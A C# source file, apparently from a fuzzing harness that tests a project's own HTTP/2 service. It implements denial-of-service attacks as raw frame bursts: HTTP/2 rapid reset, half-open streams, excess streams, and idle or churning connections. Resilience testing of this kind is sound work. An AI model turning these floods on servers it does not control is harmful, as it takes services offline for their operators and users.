using Workforce.Fuzz.Http2;

namespace Workforce.Fuzz.Attacks;

/// <summary>Streams opened, reset and left, by the thousand.</summary>
internal static class StreamAttacks
{
    public static IReadOnlyList<Attack> All { get; } =
    [
        new("half-open streams", HalfOpenAsync),
        new("half-open pushes", target => HalfOpenAsync(target, AttackTarget.PushPath)),
        new("half-open watches", HalfOpenWatchesAsync),
        new("rapid reset", RapidResetAsync),
        new("reset after the whole call", ResetAfterCallAsync),
        new("reset of pushes under way", ResetPushesAsync),
        new("more streams than allowed", TooManyStreamsAsync),
        new("idle connections", IdleConnectionsAsync),
        new("connections that come and go", ComeAndGoAsync),
    ];

    private static Task HalfOpenAsync(AttackTarget target) => HalfOpenAsync(target, AttackTarget.UnaryPath);

    private static Task HalfOpenAsync(AttackTarget target, string path) => target.EachAsync(target.Count(40), () => target.ConnectAsync(), async connection =>
    {
        var block = AttackTarget.HeadersOf(path);
        var buffer = new FrameBuffer();

        for (var i = 0; i < 100; i++)
        {
            buffer.Headers((2 * i) + 1, block, endStream: false);
        }

        target.Sent(100);
        await connection.SendAsync(buffer);
        await connection.UntilClosedAsync(target.Time);
    });

    private static Task HalfOpenWatchesAsync(AttackTarget target) => target.EachAsync(target.Count(20), () => target.ConnectAsync(), async connection =>
    {
        var buffer = new FrameBuffer();

        for (var i = 0; i < 100; i++)
        {
            var path = i % 2 == 0 ? AttackTarget.WatchPath : AttackTarget.HealthWatchPath;
            buffer.Headers((2 * i) + 1, AttackTarget.HeadersOf(path), endStream: false);
            buffer.Frame(FrameType.Data, FrameBuffer.EndStream, (2 * i) + 1, AttackTarget.Message(path, i));
        }

        target.Sent(100);
        await connection.SendAsync(buffer);
        await connection.UntilClosedAsync(target.Time);
    });

    private static Task RapidResetAsync(AttackTarget target) => BurstAsync(target, connections: 4, streams: 5000, (buffer, id) =>
        buffer.Headers(id, AttackTarget.HeadersOf(AttackTarget.UnaryPath), endStream: false).Reset(id));

    private static Task ResetAfterCallAsync(AttackTarget target)
    {
        var message = AttackTarget.Message(AttackTarget.UnaryPath);
        return BurstAsync(target, connections: 4, streams: 5000, (buffer, id) => buffer
            .Headers(id, AttackTarget.HeadersOf(AttackTarget.UnaryPath), endStream: false)
            .Frame(FrameType.Data, FrameBuffer.EndStream, id, message)
            .Reset(id));
    }

    private static Task ResetPushesAsync(AttackTarget target) => BurstAsync(target, connections: 2, streams: 200, (buffer, id) => buffer
        .Headers(id, AttackTarget.HeadersOf(AttackTarget.PushPath), endStream: false)
        .Frame(FrameType.Data, 0, id, AttackTarget.Message(AttackTarget.PushPath, id))
        .Reset(id));

    private static Task TooManyStreamsAsync(AttackTarget target) => BurstAsync(target, connections: 2, streams: 2000, (buffer, id) =>
        buffer.Headers(id, AttackTarget.HeadersOf(AttackTarget.PushPath), endStream: false));

    private static Task IdleConnectionsAsync(AttackTarget target) => target.EachAsync(target.Count(300), () => target.ConnectAsync(), connection =>
    {
        target.Sent();
        return connection.UntilClosedAsync(target.Time);
    });

    private static Task ComeAndGoAsync(AttackTarget target) => target.EachAsync(4, () => target.ConnectAsync(), async connection =>
    {
        for (var i = target.Count(200); i > 0; i--)
        {
            target.Sent();
            await using var guest = await target.ConnectAsync();
            await guest.SendAsync(new FrameBuffer().Headers(1, AttackTarget.HeadersOf(AttackTarget.PushPath), endStream: false));
        }
    });

    private static Task BurstAsync(AttackTarget target, int connections, int streams, Action<FrameBuffer, int> write) =>
        target.EachAsync(connections, () => target.ConnectAsync(), async connection =>
        {
            var buffer = new FrameBuffer();

            for (var i = 0; i < target.Count(streams); i++)
            {
                target.Sent();
                write(buffer, (2 * i) + 1);

                if (buffer.Length > 1 << 15)
                {
                    if (!await connection.SendAsync(buffer))
                    {
                        return;
                    }

                    buffer.Clear();
                }
            }

            await connection.SendAsync(buffer);
            await connection.UntilClosedAsync(target.Time / 4);
        });
}
